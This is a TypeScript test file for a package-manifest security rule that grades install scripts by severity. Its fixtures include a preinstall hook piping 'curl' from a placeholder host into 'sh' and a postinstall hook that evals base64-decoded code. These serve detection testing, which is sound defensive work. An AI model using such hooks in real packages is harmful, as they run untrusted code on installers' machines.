import { installScript } from '../../../src/core/rules/install-script';
import { runManifestTable } from '../../helpers/ruleTester';

runManifestTable(installScript, {
  invalid: [
    { name: 'a postinstall script (medium)', json: '{\n  "name": "x",\n  "scripts": {\n    "postinstall": "node install.cjs"\n  }\n}', at: ['"node install'], severity: 'medium' },
    { name: 'preinstall and install scripts that download code (high)', json: '{"scripts":{"preinstall":"curl -fsSL https://x.io/i.sh | sh","install":"node -e \\"require(1)\\""}}', at: ['"curl', '"node -e'], severity: 'high' },
    {
      name: 'inline node code in plain sight that only fixes a file mode is medium, not high',
      json: '{"scripts":{"postinstall":"node scripts/patches.js || echo skipped && node -e \\"try{require(\'fs\').chmodSync(require(\'path\').join(require.resolve(\'node-pty/package.json\'),\'../prebuilds/spawn-helper\'),0o755)}catch{}\\""}}',
      at: ['"node scripts'],
      severity: 'medium',
    },
    { name: 'inline node code that evaluates base64 is high', json: '{"scripts":{"postinstall":"node -e \\"eval(Buffer.from(\'Y29uc29sZS5sb2coMSk=\',\'base64\').toString())\\""}}', at: ['"node -e'], severity: 'high' },
  ],
  valid: [
    { name: 'prepare, test and build scripts', json: '{"scripts":{"prepare":"node -e \\"if(!process.env.AUTHORIZED)process.exit(1)\\"","test":"mocha","build":"tsc"}}' },
    { name: 'no scripts', json: '{"name":"x","version":"1.0.0"}' },
  ],
});
